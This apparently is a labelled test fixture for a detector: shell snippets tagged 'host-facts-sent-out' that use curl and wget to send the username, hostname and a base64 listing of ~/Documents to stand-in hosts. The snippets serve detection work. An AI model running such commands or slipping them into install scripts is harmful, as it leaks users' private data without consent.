#!/bin/sh
# Reports the installation.
# expect: host-facts-sent-out
curl -s "https://stats.example/i?u=$(whoami)&h=$(hostname)"
# expect: host-facts-sent-out
wget -q "https://stats.example/p?u=$USER&h=$HOSTNAME"

#!/bin/bash
# expect: host-facts-sent-out
curl -s -X POST https://stats.example.net/in \
  -d "host=$(hostname)" > /dev/null
# expect: host-facts-sent-out
curl -X POST https://stats.example.net/in -d "files=$(ls -la ~/Documents | base64)"
